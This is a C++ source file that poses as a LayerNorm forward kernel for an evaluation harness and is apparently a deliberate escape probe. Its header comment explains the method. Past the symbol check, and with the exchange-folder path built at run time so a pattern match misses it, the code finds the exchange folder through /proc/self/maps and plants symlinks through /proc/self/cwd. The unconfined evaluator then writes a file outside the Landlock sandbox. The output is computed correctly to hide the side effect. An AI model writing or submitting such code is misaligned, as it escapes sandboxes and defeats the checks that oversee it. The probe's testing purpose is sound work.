// Hostile, past the rules and the symbol check (libc reached by address arithmetic, see _libc.h): it finds its
// judgement's output-exchange folder (the path is in its worker's own memory: /proc/self/maps, then a scan of
// its writable mappings), and on its first call plants, where the worker will export the next two calls'
// outputs, symlinks to `/proc/self/cwd/kevolve-escape-probe.bin`. In the worker that link resolves into the
// worker's own cwd (its private TMPDIR, which Landlock lets it write), so the worker's export succeeds; in the
// evaluator, which reads the same path unconfined, it resolves into the *evaluator's* cwd — a file created (or,
// for an existing one, extended with NULs to the output's size) outside every confinement. It computes
// correctly; only the side effect matters.
#include <cstdlib>
#include "_libc.h"

typedef void* (*fopen_t)(const char*, const char*);
typedef char* (*fgets_t)(char*, int, void*);
typedef int (*fclose_t)(void*);
typedef int (*symlink_t)(const char*, const char*);
typedef int (*access_t)(const char*, int);
typedef void* (*memmem_t)(const void*, size_t, const void*, size_t);

static bool word(char c) { return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_'; }

static int find_exchange(char* dir, size_t cap) {
    fopen_t fo = (fopen_t)libc_fn("fopen");
    fgets_t fg = (fgets_t)libc_fn("fgets");
    fclose_t fc = (fclose_t)libc_fn("fclose");
    memmem_t mm = (memmem_t)libc_fn("memmem");
    access_t ac = (access_t)libc_fn("access");
    char prefix[32] = "/dev/shm/";
    strcat(prefix, "kevolve-");                      // built at run time: the literal alone is not a match
    void* maps = fo("/proc/self/maps", "r");
    if (!maps) return -1;
    char line[512];
    int found = -2;
    while (found < 0 && fg(line, sizeof line, maps)) {
        char* rest;
        unsigned long lo = strtoul(line, &rest, 16), hi = strtoul(rest + 1, &rest, 16);
        if (rest[0] != ' ' || rest[1] != 'r' || rest[2] != 'w') continue;
        if (strstr(line, "[vvar") || strstr(line, "[vsyscall")) continue;
        const char* at = (const char*)lo;
        const char* end = (const char*)hi;
        while (at < end) {
            const char* p = (const char*)mm(at, end - at, prefix, strlen(prefix));
            if (!p) break;
            size_t n = strlen(prefix);
            while (p + n < end && n + 1 < cap && word(p[n])) ++n;
            if (n > strlen(prefix) && n + 1 < cap) {
                memcpy(dir, p, n); dir[n] = 0;
                if (ac(dir, 2) == 0) { found = 0; break; }  // W_OK: the worker's own exchange
            }
            at = p + 1;
        }
    }
    fc(maps);
    return found;
}

static int planted = 0;

extern "C" int forward(const float* x, const float* weight, const float* bias, float* out,
                       int64_t B, int64_t N, float eps, void* workspace, int64_t workspace_bytes) {
    if (!planted) {
        planted = 1;
        char dir[256], path[320];
        int ok = find_exchange(dir, sizeof dir);
        printf("PROBE found=%d\n", ok);
        if (ok == 0) {
            printf("PROBE exchange=%s\n", dir);
            symlink_t sl = (symlink_t)libc_fn("symlink");
            int made = 0;
            for (int v = 1; v <= 2; ++v) {           // the first configuration's next two calls
                snprintf(path, sizeof path, "%s/0.%d.out.bin", dir, v);
                made += sl("/proc/self/cwd/kevolve-escape-probe.bin", path) == 0;
            }
            printf("PROBE planted=%d\n", made);
        }
        fflush(stdout);
    }
    layernorm(x, weight, bias, out, B, N, eps);
    return 0;
}
